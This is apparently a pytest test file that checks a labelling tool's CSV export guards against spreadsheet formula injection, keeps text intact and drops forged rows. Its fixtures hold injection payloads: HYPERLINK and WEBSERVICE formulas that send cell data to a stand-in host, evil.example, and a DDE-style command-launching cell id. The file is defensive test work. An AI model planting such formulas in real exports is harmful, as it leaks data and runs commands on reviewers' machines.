"""The feedback loop's files as people and spreadsheets handle them (issue #42): no label-queue or
label-merge cell runs as a formula where a spreadsheet opens it, and every reader gets the text back
exactly; a row whose id no queue record names is listed and left out; a byte-order mark is read."""

import csv
import io
import json
import random
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from verifybench.cli import app
from verifybench.errors import VerifybenchError
from verifybench.feedback.queue import label_estimate, label_merge, label_queue, write_csv
from verifybench.loaders import iter_cases
from verifybench.loaders.labelqueue import FORMULA_START, neutralise, read_rows, record_path, restore
from verifybench.suite import load_suite

HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', '=WEBSERVICE("http://evil.example/"&B2)',
           "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'already quoted", "''twice", "\uff1d1+1",
           "-0.25", "plain text", "two lines\n=1+1", ""]


def _log(folder: Path, n: int = 40) -> Path:
    """A decision log of `n` answers (the first ones hostile: an id, a question and a response a
    spreadsheet would run), scored by rouge and bleu."""
    rng = random.Random(0)
    folder.mkdir(parents=True, exist_ok=True)
    lines = []
    for i in range(n):
        text = HOSTILE[i % len(HOSTILE)] + ("" if i < len(HOSTILE) else f" #{i}")
        checks = [{"verifier": v, "score": rng.random(), "threshold": 0.5, "error": None} for v in ("rouge", "bleu")]
        lines.append(json.dumps({
            "id": f"=cmd|'/C calc'!A{i}" if i == 0 else f"c{i}", "response": text, "question": "+" + text,
            "sources": [f"source {i}"], "doc_type": "qa", "meta": {"note": "-" + text},
            "decision": {"action": "flag" if checks[0]["score"] >= 0.5 else "allow", "checks": checks,
                         "policy_hash": "p1", "guard_hash": "g1"}}))
    (folder / "decisions-1-0.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


def _raw(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    with open(path, newline="", encoding=encoding) as f:
        return list(csv.reader(f))


def _write_raw(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> None:
    with open(path, "w", newline="", encoding=encoding) as f:
        csv.writer(f).writerows(rows)


def _label(path: Path, value=lambda i: "hallucinated" if i % 2 else "faithful", encoding: str = "utf-8",
           extra: list[dict] | None = None) -> list[list[str]]:
    """Fill the label column as a reviewer's spreadsheet would: every other cell left as it was written."""
    rows = _raw(path)
    col = rows[0].index("label")
    for i, r in enumerate(rows[1:]):
        r[col] = value(i)
    for e in extra or []:
        rows.append([e.get(h, "") for h in rows[0]])
    _write_raw(path, rows, encoding)
    return rows


def _runs_in_a_spreadsheet(cell: str) -> bool:
    """Begins as a formula does, and is not a plain number (which a spreadsheet reads as one)."""
    if not cell.startswith(FORMULA_START[:-1]):
        return False
    try:
        return not (float(cell) == float(cell) and set(cell) <= set("-+0123456789.eE") and cell[0] == "-")
    except ValueError:
        return True


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(st.one_of(st.text(), st.sampled_from(HOSTILE), st.text().map(lambda t: "'" + t)),
                         min_size=3, max_size=3), min_size=1, max_size=8))
def test_any_text_round_trips_through_a_csv_for_people_exactly(tmp_path_factory, rows):
    """Whatever a cell holds (a formula, a leading quote, a tab, CR, newlines), it is written so no
    spreadsheet runs it, and read back exactly."""
    path = tmp_path_factory.mktemp("cells") / "t.csv"
    header = ["a", "=b", "'c"]
    write_csv(path, header, iter([dict(zip(header, r)) for r in rows]))
    raw = _raw(path)
    assert not any(_runs_in_a_spreadsheet(c) for r in raw for c in r)
    got = [rec.data for rec in read_rows(path)]
    assert got == [dict(zip(header, r)) for r in rows]


def test_the_escaping_is_unambiguous_on_a_seeded_sample():
    rng = random.Random(42)
    alphabet = "'=+-@\t\r\n\uff1dab0.9 e"
    for _ in range(20000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6)))
        written = neutralise(text)
        assert restore(written) == text
        assert not _runs_in_a_spreadsheet(written)
    assert neutralise("-0.25") == "-0.25" and neutralise("-1e-05") == "-1e-05"  # numbers stay numbers
    assert neutralise("-inf") == "'-inf" and neutralise("'x") == "''x"


def test_label_queue_writes_no_cell_a_spreadsheet_runs_and_its_suite_reads_the_text_back(tmp_path):
    log = _log(tmp_path / "log")
    out = tmp_path / "q" / "to_label.csv"
    r = label_queue(log, 40, out, strategy="stratified", seed=0)
    assert Path(r["queue"]) == record_path(out) and record_path(out).exists()
    raw = _raw(out)
    bad = [c for row in raw for c in row if _runs_in_a_spreadsheet(c)]
    assert bad == [], bad[:5]
    assert any(c.startswith("'=HYPERLINK") for row in raw for c in row)
    originals = {json.loads(x)["id"]: json.loads(x) for x in (log / "decisions-1-0.jsonl").read_text().splitlines()}
    _label(out)
    suite = load_suite(r["suite"])
    assert suite.dataset.loader == "label-queue"
    errors: list = []
    cases = list(iter_cases(suite.dataset, errors))
    assert errors == [] and len(cases) == 40
    for c in cases:
        o = originals[c.id]
        assert (c.response, c.question, c.doc_type) == (o["response"], o["question"], o["doc_type"])
        assert [s.text for s in c.sources] == o["sources"]
    assert "=cmd|'/C calc'!A0" in {c.id for c in cases}
    e = label_estimate(out)
    assert e["labeled"] == 40 and e["not_queued"] == []
    assert e["window_cases_represented"] == pytest.approx(40)


def test_label_merge_reads_a_bom_leaves_out_ids_in_no_queue_and_keeps_the_text(tmp_path):
    log = _log(tmp_path / "log")
    week1, week2 = tmp_path / "week1.csv", tmp_path / "week2.csv"
    label_queue(log, 20, week1, strategy="uncertain", seed=0)
    label_queue(log, 20, week2, strategy="uncertain", seed=0, labeled=[week1])
    _label(week1)
    forged = {"id": "forged-1", "label": "hallucinated", "response": "=1+1", "weight": "1000000"}
    # A spreadsheet's "CSV UTF-8" export: a byte-order mark before the header.
    _label(week2, encoding="utf-8-sig", extra=[forged])
    assert week2.read_bytes().startswith(b"\xef\xbb\xbf")
    res = CliRunner().invoke(app, ["label-merge", str(week2), str(week1), "--out", str(tmp_path / "all.csv")])
    assert res.exit_code == 1, res.output
    where = re.search(r"not queued: .*week2.csv:(\d+): id 'forged-1' is in no queue record", res.output)
    assert where, res.output
    # The line named is the forged row's (cells spanning lines counted, as a text editor shows them).
    assert week2.read_bytes().split(b"\n")[int(where[1]) - 1].startswith(b"forged-1,")
    merged = list(read_rows(tmp_path / "all.csv"))
    assert len(merged) == 40 and "forged-1" not in {m.data["id"] for m in merged}
    assert not any(_runs_in_a_spreadsheet(c) for row in _raw(tmp_path / "all.csv") for c in row)
    originals = {json.loads(x)["id"]: json.loads(x) for x in (log / "decisions-1-0.jsonl").read_text().splitlines()}
    assert all(m.data["response"] == originals[m.data["id"]]["response"] for m in merged)
    # The merged file has its own record: estimate and the next merge read it.
    assert record_path(tmp_path / "all.csv").exists()
    assert label_estimate(tmp_path / "all.csv")["not_queued"] == []
    # The estimate leaves the forged row out of every figure, lists it, and exits 1.
    e = label_estimate(week2)
    assert e["labeled"] == 20 and [x["id"] for x in e["not_queued"]] == ["forged-1"]
    assert e["window_cases_represented"] < 1000
    res = CliRunner().invoke(app, ["label-estimate", str(week2)])
    assert res.exit_code == 1 and "forged-1" in res.output
    # The generated suite skips it as a bad record naming the id.
    errors: list = []
    cases = list(iter_cases(load_suite(week2.with_suffix(".yaml")).dataset, errors))
    assert len(cases) == 20 and len(errors) == 1 and "'forged-1' is in no queue record" in str(errors[0])
    # A next queue does not count its label.
    r = label_queue(log, 1, tmp_path / "week3.csv", labeled=[week2])
    assert r["already_labeled"] == 20 and [x["id"] for x in r["not_queued"]] == ["forged-1"]


def test_a_file_without_its_queue_record_needs_one_named(tmp_path):
    """A CSV of this format (its `queue` column) without its record is refused (a 0.1 queue, which had
    neither, is read with a note: tests/test_formats.py)."""
    log = _log(tmp_path / "log")
    q = tmp_path / "q.csv"
    label_queue(log, 10, q, seed=1)
    _label(q)
    moved = tmp_path / "renamed.csv"
    q.rename(moved)
    with pytest.raises(VerifybenchError, match=r"renamed.csv: no queue record beside it \(renamed.queue.jsonl.*--queue"):
        label_merge([moved], tmp_path / "m.csv")
    r = label_merge([moved], tmp_path / "m.csv", queues=[record_path(q)])
    assert r["rows"] == 10 and r["not_queued"] == []
    record_path(q).write_text('{"kind": "something else"}\n')
    with pytest.raises(VerifybenchError, match=r"q.queue.jsonl:1: a 'something else' file, not a "
                                               r"'verifybench.label-queue' file"):
        label_merge([moved], tmp_path / "m.csv", queues=[record_path(q)])


@settings(max_examples=100, deadline=None)
@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=6), st.lists(st.booleans(), max_size=6))
def test_the_csv_reader_reads_what_csv_dictreader_reads(tmp_path_factory, rows, blank_after):
    """`read_csv` builds its records from `csv.reader` rows (faster than `csv.DictReader`, and with a hook
    for a format's own escaping): the same records, blank lines skipped alike, each at its first line."""
    from verifybench.loaders.readers import read_csv

    path = tmp_path_factory.mktemp("csv") / "t.csv"
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["a", "b"])
        for i, r in enumerate(rows):
            w.writerow(r)
            if i < len(blank_after) and blank_after[i]:
                f.write("\r\n")
    with open(path, newline="", encoding="utf-8") as f:
        want = list(csv.DictReader(f))
    got = list(read_csv(path))
    assert [g.data for g in got] == want
    with open(path, newline="", encoding="utf-8") as f:
        text = f.read()
    starts = [0] + [i + 1 for i, c in enumerate(text) if c == "\n"]
    for g in got:  # each record is named by the line its row starts on
        written = io.StringIO()
        csv.writer(written).writerow([g.data["a"], g.data["b"]])
        assert text[starts[g.loc.line - 1]:].startswith(written.getvalue())
